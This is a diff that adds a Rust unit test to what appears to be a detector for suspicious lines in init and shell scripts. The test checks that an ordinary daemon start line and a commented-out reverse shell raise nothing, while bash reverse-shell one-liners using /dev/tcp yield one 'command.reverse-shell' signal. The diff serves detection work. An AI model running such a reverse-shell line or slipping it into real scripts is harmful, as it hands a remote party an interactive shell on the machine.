@@ -11,6 +11,20 @@ fn slugs(line: &str) -> Vec<&'static str> {
 }
 
 #[test]
+fn scripts_are_read_line_by_line() {
+    let slugs = |script: &str| -> Vec<&str> {
+        of_script(script.as_bytes()).iter().map(|signal| signal.slug).collect()
+    };
+    let init = "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: x\n### END INIT INFO\ncase $1 in\nstart)\n";
+    assert_eq!(slugs(&format!("{init}  start-stop-daemon --start --exec /usr/sbin/x\n;;\nesac\n")), [""; 0]);
+    assert_eq!(slugs("#!/bin/sh\n# bash -i >& /dev/tcp/127.0.0.1/1 0>&1\nexit 0\n"), [""; 0], "a comment");
+    assert_eq!(
+        slugs(&format!("{init}bash -i >& /dev/tcp/127.0.0.1/1 0>&1\nbash -i >& /dev/tcp/127.0.0.1/2 0>&1\n")),
+        ["command.reverse-shell"]
+    );
+}
+
+#[test]
 fn what_services_ordinarily_run_says_nothing() {
     for line in [
         "/usr/sbin/nginx -g 'daemon on; master_process on;'",
